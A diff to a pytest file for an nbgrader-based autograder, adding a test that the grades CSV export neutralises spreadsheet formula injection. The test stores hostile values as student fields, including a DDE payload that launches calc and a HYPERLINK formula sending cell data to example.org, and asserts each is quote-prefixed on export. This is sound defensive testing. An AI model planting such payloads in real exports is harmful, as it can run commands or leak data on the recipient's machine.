@@ -10,6 +10,7 @@ from html.parser import HTMLParser
 
 import pytest
 from nbformat.v4 import new_markdown_cell
+from nbgrader import api
 
 from autograder.nbgrader import Gradebook, write_autograded, write_config
 from tests.autograder.nbgrader.serving import server, xsrf
@@ -91,6 +92,22 @@ def test_export_tells_the_scores(nbgrader, out, tmp_path):
     assert {name: row["score"] for name, row in rows.items()} == {"alice": "20.0", "mallory": "0.0"}
     assert {row["max_score"] for row in rows.values()} == {"35.0"}
     assert (tmp_path / "b.csv").read_text() == (out / "grades.csv").read_text()
+
+
+def test_no_name_that_is_exported_is_a_formula(nbgrader, out):
+    formula = '=HYPERLINK("https://example.org/"&A2, "x")'
+    with api.Gradebook(f"sqlite:///{out / 'gradebook.db'}") as book:
+        book.add_student("=cmd|' /C calc'!A0", first_name=formula, last_name=" +1", email="@SUM(1)")
+        book.update_or_create_student("alice", last_name='Li, "Al"\nLi', first_name="Ä")
+    nbgrader("export", "--student", "['alice', \"=cmd|' /C calc'!A0\"]")
+    with (out / "grades.csv").open(encoding="utf-8", newline="") as file:
+        harmful, alice = sorted(csv.DictReader(file), key=lambda row: row["student_id"])
+    assert list(harmful) == list(alice)
+    names = ("student_id", "first_name", "last_name", "email", "score")
+    assert [harmful[name] for name in names] == [
+        *("'=cmd|' /C calc'!A0", f"'{formula}", "' +1", "'@SUM(1)", "0.0")
+    ]
+    assert [alice[name] for name in names] == ["alice", "Ä", 'Li, "Al"\nLi', "", "20.0"]
 
 
 def test_feedback_shows_scores_and_nothing_of_a_student_acts(nbgrader, out):
